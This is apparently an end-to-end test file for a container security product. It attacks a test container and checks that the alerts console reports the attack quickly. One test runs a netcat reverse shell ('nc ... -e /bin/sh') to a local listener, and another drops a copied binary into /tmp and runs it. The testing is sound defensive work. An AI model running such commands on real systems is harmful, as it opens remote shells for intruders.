/** The main job, as a person sees it: a real container is attacked, and the console says so. */
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import {
  eventually,
  feedsDir,
  missing,
  run,
  startContainerd,
  type TestContainer,
  type TestContainerd,
} from "@bulwark/testkit";
import type { Client } from "@bulwark/contract";
import { openBrowser } from "./browser.ts";
import { bulwark, login, startProduct, type Product } from "./product.ts";

const skip = missing("root", "bpf", "clang", "containerd", "runc", "busybox", "chromium", "feeds");

describe("one machine, guarded", { skip }, () => {
  const stack = new AsyncDisposableStack();
  let containerd: TestContainerd;
  let product: Product;
  let api: Client;
  let browser: Awaited<ReturnType<typeof openBrowser>>;
  let victim: TestContainer;

  before(async () => {
    containerd = stack.use(await startContainerd());
    const config = `agent:\n  node: test-node\n  runtimes: { containerd: ["${containerd.socket}"], docker: [], cri-o: [], podman: [], runc: [], crun: [] }\n`;
    product = stack.use(await startProduct({ config }));
    run(bulwark, ["db", "update", "--from", feedsDir(), "--data", product.data]);
    browser = stack.use(await openBrowser());
    await browser.page.goto(product.loginLink());
    await browser.page.waitForURL((url) => !url.pathname.startsWith("/login"));
    api = await login(product.url, run(bulwark, ["login", "--data", product.data]).trim());
    victim = containerd.run({ id: "victim", flags: ["--label", "team=blue"] });
  });
  after(async () => stack.disposeAsync());

  test("a container that starts is listed within two seconds, with its image", async () => {
    const listed = await eventually("the container is listed", async () => {
      const { items } = await api.listContainers({ query: { state: "running" } });
      return items.find(({ id }) => id === victim.id);
    });
    assert.deepEqual(listed.image, containerd.image);
    assert.equal(listed.labels["team"], "blue");
  });

  test("its image is scanned, and its weaknesses are findings with the fix", async () => {
    const found = await eventually(
      "findings appear",
      async () => {
        const { items } = await api.listFindings({ query: { running: "true" } });
        return items
          .filter((item) => item.kind === "vulnerability")
          .find(({ vulnerability }) => vulnerability.id === "CVE-2019-5747");
      },
      40_000,
    );
    assert.equal(found.asset.name, containerd.image.name);
    assert.equal(found.vulnerability.package, "busybox");
    assert.equal(found.vulnerability.fixedVersion, "1.30.1-r2");
    assert.equal(found.runningContainers, 1);
  });

  /** Runs an attack while the alerts page is open; milliseconds from the kernel's event to the page. */
  async function attack(rule: string, command: string): Promise<{ delay: number; text: string }> {
    const { page } = browser;
    await page.goto(`${product.url}/alerts?rule=${rule}`);
    await page.waitForLoadState("networkidle").catch(() => undefined);
    const row = page.getByRole("row").filter({ hasText: victim.id });
    assert.equal(await row.count(), 0);
    // The page tells by its own clock: this process is busy with the attack meanwhile.
    const seen = page.evaluate<number>(seenAt(victim.id));
    await new Promise((resolve) => setTimeout(resolve, 200));
    victim.exec("sh", "-c", command);
    await row.first().waitFor({ timeout: 10_000 });
    const { items } = await api.listAlerts({ query: { rule } });
    assert.equal(items.length, 1);
    const alert = items[0];
    assert.ok(alert);
    assert.equal(alert.container?.id, victim.id);
    assert.deepEqual(alert.container?.image, containerd.image);
    await row.first().click();
    const detail = page.getByRole("complementary");
    await detail.waitFor();
    await page.waitForTimeout(500);
    return { delay: (await seen) - alert.time, text: await detail.innerText() };
  }

  test("a reverse shell is in the console within a second, with peer, process tree and image", async () => {
    const { delay, text } = await attack(
      "reverse-shell",
      "(sleep 3 | nc -lp 4444 >/dev/null 2>&1 &); sleep 1; nc 127.0.0.1 4444 -e /bin/sh >/dev/null 2>&1 & sleep 0.3; true",
    );
    assert.ok(delay < 1000, `${delay} ms from the kernel to the page`);
    assert.match(text, /127\.0\.0\.1:4444/);
    assert.match(text, /\/bin\/busybox/);
    assert.match(text, /registry\.example\/bulwark\/busybox:1/);
    assert.match(text, /T1059\.004/);
  });

  test("a program that is not in the image is in the console within a second", async () => {
    const { delay, text } = await attack(
      "drift",
      "cp /bin/busybox /tmp/dropped; chmod +x /tmp/dropped; /tmp/dropped true; true",
    );
    assert.ok(delay < 1000, `${delay} ms from the kernel to the page`);
    assert.match(text, /\/tmp\/dropped/);
    assert.match(text, /cp \/bin\/busybox \/tmp\/dropped/);
  });

  test("ordinary work in the container raises nothing", async () => {
    const count = async (): Promise<number> => (await api.listAlerts({ query: {} })).items.length;
    const before = await count();
    victim.exec("sh", "-c", "ls / | cat >/dev/null; id; cat /etc/passwd >/dev/null; echo x > /tmp/y; sleep 0.1");
    await eventually("the work was seen", async () => {
      const { items } = await api.listEvents({ query: { container: victim.id, q: "/etc/passwd" } });
      return items.length > 0 ? true : undefined;
    });
    assert.equal(await count(), before);
  });

  test("a container that stops is told within two seconds", async () => {
    const other = containerd.run();
    await eventually("it runs", async () =>
      (await api.getContainer({ params: { id: other.id } })).state === "running" ? true : undefined,
    );
    other.stop();
    await eventually(
      "it has stopped",
      async () => ((await api.getContainer({ params: { id: other.id } })).state === "stopped" ? true : undefined),
      2000 + 1000,
    );
  });

  test("every part says how it is", async () => {
    const { components } = await api.getHealth();
    const state = (id: string): string | undefined => components.find((item) => item.id === id)?.state;
    assert.equal(state("sensor"), "ok");
    assert.equal(state("runtime:containerd"), "ok");
    assert.equal(state("advisories"), "ok");
    assert.equal(state("spool"), "ok");
  });
});

/** Answers with the time at which a row with this text is on the page. */
function seenAt(text: string): string {
  return `new Promise((resolve) => {
    const isThere = () => [...document.querySelectorAll("[role=row]")].some((row) => row.textContent.includes(${JSON.stringify(text)}));
    const look = () => (isThere() ? resolve(Date.now()) : requestAnimationFrame(look));
    look();
  })`;
}
